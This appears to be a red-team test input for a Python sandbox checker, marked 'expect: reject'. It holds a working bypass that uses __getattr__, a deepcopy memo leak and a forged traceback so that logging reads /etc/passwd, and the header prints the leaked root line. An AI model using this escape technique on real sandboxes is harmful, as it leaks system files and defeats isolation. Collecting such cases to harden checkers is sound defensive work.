# expect: reject dunder
# line: 59
# verified: ninth static red team, ok_11 (plain python3 3.11.7, temp dir: goal reached)
#
# Family R reopened through family C: a real LogRecord has its exc_info rewritten without any 
# spelling the record rule or the store rule judges. A handler's own emit(self, record) (allowed: 
# the record parameter of a def named emit) does copy.deepcopy(record). The record's args hold a 
# Spy, whose __getattr__ answers "__deepcopy__" with an ordinary method that keeps copy's memo. 
# The keep-alive list in the memo then holds the original record's __dict__. 
# operator.methodcaller("update", {"exc_info": (ValueError, ValueError("v"), Tb())})(that dict) 
# puts a forged traceback in it, and a dict literal key is data, not a judged keyword. 
# OUT.handle(record) passes the real record on (allowed: the library record parameter). 
# Formatter.format formats the forged triple, and linecache opens co_filename. Tb, Frame and Code 
# are round 8's classes, whose names are answered by __getattr__. No run-time name is given to 
# getattr/setattr by the program.
# Goal reached: /etc/passwd read (traceback formatting of a forged traceback on a real, library-made record)
# Output under python3 (3.11.7, throw-away temp dir):
#   hello <__main__.Spy object at 0x7f3600602750>
#   Traceback (most recent call last):
#     File "/etc/passwd", line 1, in pwned
#       root:x:0:0:root:/root:/bin/bash
#   ValueError: v

import copy
import logging
import operator
import sys

SEEN = []


class Code:
    def __init__(self):
        self.co_filename = "/etc/passwd"
        self.co_name = "pwned"


class Frame:
    def __getattr__(self, name):
        if name.endswith("code"):
            return Code()
        if name.endswith("globals"):
            return {}
        return None


class Tb:
    def __getattr__(self, name):
        if name.endswith("frame"):
            return Frame()
        if name.endswith("lasti"):
            return -1
        if name.endswith("lineno"):
            return 1
        return None


class Spy:
    def __getattr__(self, name):
        if name.endswith("deepcopy__"):
            return self.grab
        raise AttributeError(name)

    def grab(self, memo):
        SEEN.append(memo)
        return "spy"


OUT = logging.StreamHandler(sys.stdout)


class Relay(logging.Handler):
    def emit(self, record):
        copy.deepcopy(record)
        for value in SEEN[0].values():
            if isinstance(value, list):
                for item in value:
                    if isinstance(item, dict) and "levelname" in item and "args" in item:
                        operator.methodcaller("update", {"exc_info": (ValueError, ValueError("v"), Tb())})(item)
        OUT.handle(record)


log = logging.getLogger("r9")
log.addHandler(Relay())
log.warning("hello %s", Spy())
